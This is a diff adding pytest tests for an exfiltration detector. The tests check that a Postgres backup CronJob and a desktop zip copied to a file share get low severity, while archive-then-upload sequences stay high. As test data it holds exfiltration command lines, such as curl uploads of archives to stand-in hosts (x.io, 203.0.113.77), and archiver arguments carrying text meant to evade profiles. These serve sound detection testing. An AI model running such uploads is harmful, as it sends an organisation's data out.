@@ -1,0 +1,230 @@
+"""Precision on real workloads (issue 12), through `detect` on records in the producers' formats:
+a backup job is known by what its code cannot write, and on a host only traffic tied to the
+archive carries it."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from xml.sax.saxutils import escape
+
+import pytest
+
+from tidewaiter.cli.main import main
+
+ROOT = Path(__file__).resolve().parents[2]
+BACKUP = ROOT / "scenarios" / "benign" / "pg-dump-gzip-aws-s3-backup" / "tetragon.jsonl"
+
+
+def detect(capsys: pytest.CaptureFixture[str], *argv: str) -> list[dict[str, object]]:
+    assert main(["detect", "--json", *argv]) == 0
+    return [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.strip()]
+
+
+def as_api_replica(text: str) -> str:
+    """The same records in a replica of the ledger's web API Deployment."""
+    return (
+        text.replace('"workload_kind":"CronJob"', '"workload_kind":"Deployment"')
+        .replace('"workload":"ledger-db-backup"', '"workload":"ledger-api"')
+        .replace("ledger-db-backup-29518020-5rk8d", "ledger-api-6b9f7d8c4-hx2zq")
+    )
+
+
+def test_a_backup_cronjob_stays_low_and_the_same_commands_in_a_web_api_stay_high(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # No --allow-destination: the bucket is not declared, so only the job's identity can lower.
+    [job] = detect(capsys, str(BACKUP))
+    assert job["severity"] == "Low"
+    reasons = json.dumps(job)
+    assert "a CronJob (ledger/ledger-db-backup)" in reasons
+
+    api = tmp_path / "api.jsonl"
+    api.write_text(as_api_replica(BACKUP.read_text()))
+    [alert] = detect(capsys, str(api))
+    assert alert["severity"] in ("High", "Critical")
+    text = json.dumps(alert)
+    assert "not lowered as a database dump" in text
+    assert "a Deployment (ledger/ledger-api)" in text
+
+
+def _exec(
+    line: dict[str, object], pid: int, binary: str, arguments: str, time: str
+) -> dict[str, object]:
+    out = json.loads(json.dumps(line))
+    process = out["process_exec"]["process"]  # type: ignore[index]
+    process.update(
+        pid=pid,
+        binary=binary,
+        arguments=arguments,
+        start_time=time,
+        exec_id=f"aXA6{pid}",
+    )
+    out["time"] = time
+    return out
+
+
+@pytest.mark.parametrize(
+    ("archiver", "uploader"),
+    [
+        # issue 11 class 2: words inside the attacker's own command switch on no profile
+        ("/usr/bin/zip -r /tmp/a.zip /data -x 'pip install*'", "curl -T /tmp/a.zip https://x.io/"),
+        ("/bin/tar czf /tmp/app.log.gz /data", "curl -T /tmp/app.log.gz https://x.io/"),
+        (
+            "/bin/tar czf /tmp/b.tgz /data --label 'etcdctl snapshot save'",
+            "curl -T /tmp/b.tgz https://x.io/",
+        ),
+    ],
+)
+def test_text_inside_an_api_replica_lowers_nothing(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], archiver: str, uploader: str
+) -> None:
+    first = json.loads(as_api_replica(BACKUP.read_text().splitlines()[0]))
+    binary, _, arguments = archiver.partition(" ")
+    tool, _, rest = uploader.partition(" ")
+    lines = [
+        _exec(first, 40, "/usr/local/bin/restic", "version", "2026-03-02T02:00:00Z"),
+        _exec(first, 41, binary, arguments, "2026-03-02T02:00:01Z"),
+        _exec(first, 42, f"/usr/bin/{tool}", rest, "2026-03-02T02:00:05Z"),
+    ]
+    path = tmp_path / "t.jsonl"
+    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
+    [alert] = detect(capsys, str(path))
+    assert alert["severity"] in ("High", "Critical")
+
+
+# --- hosts: Sysmon records of a Windows desktop --------------------------------------------
+
+_LOGON = "0x3e7a1"
+
+
+def _sysmon(eid: int, time: str, record: int, data: dict[str, str]) -> str:
+    fields = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
+    return (
+        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
+        '<Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>'
+        f"<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>{eid}</Task>"
+        f'<TimeCreated SystemTime="2026-11-27T{time}.0000000Z"/>'
+        f"<EventRecordID>{record}</EventRecordID><Correlation/>"
+        '<Execution ProcessID="3140" ThreadID="4412"/>'
+        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
+        "<Computer>ACC-WS-0107.corp.example.com</Computer>"
+        f"</System><EventData>{fields}</EventData></Event>\n"
+    )
+
+
+def _guid(n: int) -> str:
+    return f"{{5b0b2d1a-3c4e-6751-{n:04x}-000000001c00}}"
+
+
+def _start(time: str, record: int, n: int, image: str, cmd: str, parent: int) -> str:
+    return _sysmon(
+        1,
+        time,
+        record,
+        {
+            "UtcTime": f"2026-11-27 {time}.000",
+            "ProcessGuid": _guid(n),
+            "ProcessId": str(1000 + n),
+            "Image": image,
+            "CommandLine": cmd,
+            "User": "CORP\\a.lee",
+            "LogonId": _LOGON,
+            "ParentProcessGuid": _guid(parent),
+            "ParentProcessId": str(1000 + parent),
+            "ParentImage": "C:\\Windows\\explorer.exe",
+        },
+    )
+
+
+def _net(time: str, record: int, n: int, image: str, ip: str, port: int) -> str:
+    return _sysmon(
+        3,
+        time,
+        record,
+        {
+            "UtcTime": f"2026-11-27 {time}.000",
+            "ProcessGuid": _guid(n),
+            "ProcessId": str(1000 + n),
+            "Image": image,
+            "User": "CORP\\a.lee",
+            "Protocol": "tcp",
+            "Initiated": "true",
+            "SourceIp": "10.20.4.17",
+            "SourcePort": str(50000 + record % 1000),
+            "DestinationIp": ip,
+            "DestinationPort": str(port),
+        },
+    )
+
+
+TEAMS = "C:\\Users\\a.lee\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"
+ONEDRIVE = "C:\\Users\\a.lee\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
+PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+
+
+def _desktop(upload: str | None) -> str:
+    zip_cmd = (
+        'powershell.exe -Command "Compress-Archive -Path C:\\Users\\a.lee\\Documents\\Q3\\* '
+        '-DestinationPath C:\\Users\\a.lee\\Q3.zip"'
+    )
+    lines = [
+        # Teams and OneDrive run all day, started at logon, talking to the internet.
+        _net("13:58:02", 1, 2, TEAMS, "52.112.0.10", 443),
+        _net("13:59:40", 2, 3, ONEDRIVE, "13.107.42.12", 443),
+        _start("14:02:11", 3, 10, PS, zip_cmd, 1),
+        _sysmon(
+            11,
+            "14:02:13",
+            4,
+            {
+                "ProcessGuid": _guid(10),
+                "ProcessId": "1010",
+                "Image": PS,
+                "TargetFilename": "C:\\Users\\a.lee\\Q3.zip",
+            },
+        ),
+        _start(
+            "14:02:40",
+            5,
+            11,
+            "C:\\Windows\\System32\\Robocopy.exe",
+            "robocopy C:\\Users\\a.lee \\\\fs01\\finance Q3.zip",
+            1,
+        ),
+        _net("14:02:41", 6, 11, "C:\\Windows\\System32\\Robocopy.exe", "10.20.0.5", 445),
+        _net("14:04:02", 7, 2, TEAMS, "52.112.0.10", 443),
+        _net("14:05:40", 8, 3, ONEDRIVE, "13.107.42.12", 443),
+        _net("14:06:10", 9, 2, TEAMS, "52.113.194.132", 443),
+    ]
+    if upload:
+        lines += [
+            _start("14:07:00", 10, 12, "C:\\Windows\\System32\\curl.exe", upload, 1),
+            _net("14:07:01", 11, 12, "C:\\Windows\\System32\\curl.exe", "203.0.113.77", 443),
+        ]
+    return "".join(lines)
+
+
+def test_a_desktop_zip_to_a_share_is_not_exfiltrated_by_teams_and_onedrive(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "sysmon.xml"
+    path.write_text(_desktop(None))
+    alerts = detect(capsys, str(path))
+    assert [a["severity"] for a in alerts] == ["Low"]
+    [finding] = alerts
+    analytic = finding["finding_info"]["analytic"]["uid"]  # type: ignore[index]
+    assert analytic in ("tw-archive-created", "tw-archive-internal")
+    text = json.dumps(finding)
+    assert "context, not evidence" in text
+    assert "Teams.exe to 52.112.0.10:443" in text
+
+
+def test_a_desktop_upload_tied_to_the_zip_is_still_high(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "sysmon.xml"
+    path.write_text(_desktop("curl.exe -T C:\\Users\\a.lee\\Q3.zip https://203.0.113.77/u"))
+    [alert] = [a for a in detect(capsys, str(path)) if a["severity"] != "Low"]
+    assert alert["severity"] in ("High", "Critical")
+    assert "203.0.113.77" in json.dumps(alert)
